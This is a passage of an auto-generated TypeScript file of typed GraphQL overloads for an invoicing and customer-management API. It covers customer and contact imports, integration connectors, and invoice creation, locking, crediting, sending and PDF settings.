path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess {\n        data {\n          mode committed message totalRows created updated unchanged errorRows unknownColumns\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess {\n        data {\n          mode committed message totalRows created updated unchanged errorRows unknownColumns\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpErrorRows($file: File!) {\n    importCustomers(file: $file) {\n      ... on MutationImportCustomersSuccess { data { totalRows rows(outcomes: [ERROR], first: 2) { row outcome } } }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpErrorRows($file: File!) {\n    importCustomers(file: $file) {\n      ... on MutationImportCustomersSuccess { data { totalRows rows(outcomes: [ERROR], first: 2) { row outcome } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ImpCustomer($number: String!) {\n    customerByNumber(number: $number) {\n      id number name type organisationNumber personalIdentityNumber vatNumber phone email active modifiedBy\n      invoiceAddress { address1 postcode city countryCode }\n      mailAddress { address1 postcode city }\n      paymentTerm { code }\n      assignedUser { signature }\n      customFields { key value }\n      contacts(first: 20) {\n        totalCount\n        edges { node { id name personalIdentityNumber brfOrganisationNumber apartmentNumber propertyDesignation phone mobile email isMainContact } }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ImpCustomer($number: String!) {\n    customerByNumber(number: $number) {\n      id number name type organisationNumber personalIdentityNumber vatNumber phone email active modifiedBy\n      invoiceAddress { address1 postcode city countryCode }\n      mailAddress { address1 postcode city }\n      paymentTerm { code }\n      assignedUser { signature }\n      customFields { key value }\n      contacts(first: 20) {\n        totalCount\n        edges { node { id name personalIdentityNumber brfOrganisationNumber apartmentNumber propertyDesignation phone mobile email isMainContact } }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ImpCount { customers(first: 1) { totalCount } }\n"): (typeof documents)["\n  query ImpCount { customers(first: 1) { totalCount } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename }\n  }\n"): (typeof documents)["\n  mutation ImpField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) { __typename }\n  }\n"): (typeof documents)["\n  mutation ImpAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) { __typename }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ImpMe { me { id signature } }\n"): (typeof documents)["\n  query ImpMe { me { id signature } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IntConnectors { connectors { id name version credentialKind settingsSchema flows { id direction entity base description } } }\n"): (typeof documents)["\n  query IntConnectors { connectors { id name version credentialKind settingsSchema flows { id direction entity base description } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id name hasCredentials settings enabledFlows notificationEmails flows { id base enabled } } }\n      ... on ValidationError { message issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id name hasCredentials settings enabledFlows notificationEmails flows { id base enabled } } }\n      ... on ValidationError { message issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id active notificationEmails hasCredentials } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id active notificationEmails hasCredentials } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntSetFlow($id: ID!, $flowId: String!, $enabled: Boolean!) {\n    setConnectionFlowEnabled(id: $id, flowId: $flowId, enabled: $enabled) {\n      __typename\n      ... on MutationSetConnectionFlowEnabledSuccess { data { enabledFlows flows { id enabled } } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntSetFlow($id: ID!, $flowId: String!, $enabled: Boolean!) {\n    setConnectionFlowEnabled(id: $id, flowId: $flowId, enabled: $enabled) {\n      __typename\n      ... on MutationSetConnectionFlowEnabledSuccess { data { enabledFlows flows { id enabled } } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n"): (typeof documents)["\n  mutation IntCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntRun($id: ID!, $flows: [String!], $dryRun: Boolean) {\n    runConnection(id: $id, flows: $flows, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status queuedAt } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntRun($id: ID!, $flows: [String!], $dryRun: Boolean) {\n    runConnection(id: $id, flows: $flows, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status queuedAt } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IntRunResult($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification cancelledBy cancelRequestedAt\n        flows { flowId status created updated unchanged skipped failed error }\n        failures { id reference entityType message }\n      }\n    }\n  }\n"): (typeof documents)["\n  query IntRunResult($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification cancelledBy cancelRequestedAt\n        flows { flowId status created updated unchanged skipped failed error }\n        failures { id reference entityType message }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntCancel($id: ID!) {\n    cancelConnectorRun(id: $id) {\n      __typename\n      ... on MutationCancelConnectorRunSuccess { data { id status cancelledBy } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntCancel($id: ID!) {\n    cancelConnectorRun(id: $id) {\n      __typename\n      ... on MutationCancelConnectorRunSuccess { data { id status cancelledBy } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntSetCompanyLanguage($language: Language) {\n    updateCompanySettings(input: { language: $language }) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { language } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntSetCompanyLanguage($language: Language) {\n    updateCompanySettings(input: { language: $language }) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { language } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntRetry($id: ID!) {\n    retryConnectorFailure(id: $id) {\n      __typename\n      ... on MutationRetryConnectorFailureSuccess { data { id status } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntRetry($id: ID!) {\n    retryConnectorFailure(id: $id) {\n      __typename\n      ... on MutationRetryConnectorFailureSuccess { data { id status } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IntHistory($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        runs(first: 10) { edges { node { status trigger flows { flowId status } failures { reference message entityType } } } }\n      }\n    }\n  }\n"): (typeof documents)["\n  query IntHistory($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        runs(first: 10) { edges { node { status trigger flows { flowId status } failures { reference message entityType } } } }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntAuthorizeUrl($id: ID!, $redirectUri: String!, $state: String!) {\n    connectionAuthorizeUrl(id: $id, redirectUri: $redirectUri, state: $state) {\n      __typename\n      ... on MutationConnectionAuthorizeUrlSuccess { data }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation IntAuthorizeUrl($id: ID!, $redirectUri: String!, $state: String!) {\n    connectionAuthorizeUrl(id: $id, redirectUri: $redirectUri, state: $state) {\n      __typename\n      ... on MutationConnectionAuthorizeUrlSuccess { data }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntDelete($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }\n"): (typeof documents)["\n  mutation IntDelete($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation DiCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Distribution\", statusCode: 50 }) {\n      __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation DiProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Distribution\", statusCode: 50 }) {\n      __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation DiInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation DiBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { id locked number } } ... on Error { code message } ... on ValidationError { issues { path message } } }\n  }\n"): (typeof documents)["\n  mutation DiLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { id locked number } } ... on Error { code message } ... on ValidationError { issues { path message } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel antal timmar\") { __typename ... on MutationCreditInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation DiCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel antal timmar\") { __typename ... on MutationCreditInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DiSend($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n    sendInvoice(invoiceId: $invoiceId, method: $method) {\n      __typename\n      ... on MutationSendInvoiceSuccess { data { id method recipient outcome requestedBy attempts sentAt } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"): (typeof documents)["\n  mutation DiSend($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n    sendInvoice(invoiceId: $invoiceId, method: $method) {\n      __typename\n      ... on MutationSendInvoiceSuccess { data { id method recipient outcome requestedBy attempts sentAt } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query DiDeliveries($id: ID!) {\n    invoice(id: $id) {\n      id\n      deliveryStatus\n      deliveries(first: 10) { totalCount edges { node { method recipient outcome requestedBy sentAt error attempts externalId } } }\n    }\n  }\n"): (typeof documents)["\n  query DiDeliveries($id: ID!) {\n    invoice(id: $id) {\n      id\n      deliveryStatus\n      deliveries(first: 10) { totalCount edges { node { method recipient outcome requestedBy sentAt error attempts externalId } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query DiPeppol($id: ID!) { invoice(id: $id) { id number peppolDocument peppolDocumentCheck { rule message } } }"): (typeof documents)["query DiPeppol($id: ID!) { invoice(id: $id) { id number peppolDocument peppolDocumentCheck { rule message } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation IntAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"): (typeof documents)["mutation IntAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation IntSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }"): (typeof documents)["mutation IntSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation IntCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation IntProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } } ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation IntCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } } ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on Error { code } ... on ValidationError { issues { path code } } }\n  }\n"): (typeof documents)["\n  mutation IntLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on Error { code } ... on ValidationError { issues { path code } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntAddLine($invoiceId: ID!, $input: InvoiceLineInput!) { addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on Error { code } } }\n"): (typeof documents)["\n  mutation IntAddLine($invoiceId: ID!, $input: InvoiceLineInput!) { addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on Error { code } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntUpdateLine($id: ID!, $input: InvoiceLineInput!) { updateInvoiceLine(id: $id, input: $input) { __typename ... on Error { code } } }\n"): (typeof documents)["\n  mutation IntUpdateLine($id: ID!, $input: InvoiceLineInput!) { updateInvoiceLine(id: $id, input: $input) { __typename ... on Error { code } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation IntRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation IntRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IntCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id isCredit } } ... on Error { code path message } }\n  }\n"): (typeof documents)["\n  mutation IntCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id isCredit } } ... on Error { code path message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation PdfSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n"): (typeof documents)["\n  mutation PdfCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfProject($customerId: ID!) { createProject(input: { customerId: $customerId, number: \"10000\", name: \"Badrum\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation PdfProject($customerId: ID!) { createProject(input: { customerId: $customerId, number: \"10000\", name: \"Badrum\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfProject2($customerId: ID!) { createProject(input: { customerId: $customerId, name: \"Stambyte\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation PdfProject2($customerId: ID!) { createProject(input: { customerId: $customerId, name: \"Stambyte\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation PdfInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation PdfBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation PdfLock($id: ID!) { lockInvoice(id: $id) { __typename ... on ValidationError { issues { path code } } } }"): (typeof documents)["mutation PdfLock($id: ID!) { lockInvoice(id: $id) { __typename ... on ValidationError { issues { path code } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation PdfCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PdfCustomerLanguage($id: ID!, $language: Language!) {\n    updateCustomer(input: { id: $id, language: $language }) { __typename ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation PdfCustomerLanguage($id: ID!, $language: Language!) {\n    updateCustomer(input: { id: $id, language: $language }) { __typename ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsCreateStatus($code: Int!, $name: String!) {\n    createInvoiceStatus(code: $code, name: $name) { __typename ... on MutationCreateInvoiceStatusSuccess { data { id code name } } ... on Error { code } }\n  }\n"): (typeof documents)["\n  mutation IsCreateStatus($code: Int!, $name: String!) {\n    createInvoiceStatus(code: $code, name: $name) { __typename ... on MutationCreateInvoiceStatusSuccess { data { id code name } } ... on Error { code } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation IsDeleteStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation IsDeleteStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { statusCode status { code name } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation IsUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { statusCode status { code name } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query IsList($code: Int) { invoices(first: 50, filter: { statusCode: $code }) { edges { node { id } } } }"): (typeof documents)["query IsList($code: Int) { invoices(first: 50, filter: { statusCode: $code }) { edges { node { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id name } } } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation InvCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id name } } } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } }\n  }\n"): (typeof documents)["\n  mutation InvProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"AO\", customerReference: \"AO-REF\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation InvWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"AO\", customerReference: \"AO-REF\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }\n"): (typeof documents)["\n  mutation InvAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }\n"): (typeof documents)["\n  mutation InvSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query InvTerms { paymentTerms { id days } me { id signature } }"): (typeof documents)["query InvTerms { paymentTerms { id days } me { id signature } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number title isCredit customerType customerReference locked readyForInvoice invoiceDate dueDate dueDateSetByHand\n          contractorVat noVat taxReductionType subtotal vatAmount total rounding taxReductionAmount amountToPay warning warnings\n          vatGroups { rate base vat }\n          customer { id } ourReference { signature } paymentTerm { days } workOrder { id }\n          lines { id position description quantity unitPrice amount vatRate kind accountNumber reductionEligible workOrder { id } }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation InvCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number title isCredit customerType customerReference locked readyForInvoice invoiceDate dueDate dueDateSetByHand\n          contractorVat noVat taxReductionType subtotal vatAmount total rounding taxReductionAmount amountToPay warning warnings\n          vatGroups { rate base vat }\n          customer { id } ourReference { signature } paymentTerm { days } workOrder { id }\n          lines { id position description quantity unitPrice amount vatRate kind accountNumber reductionEligible workOrder { id } }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
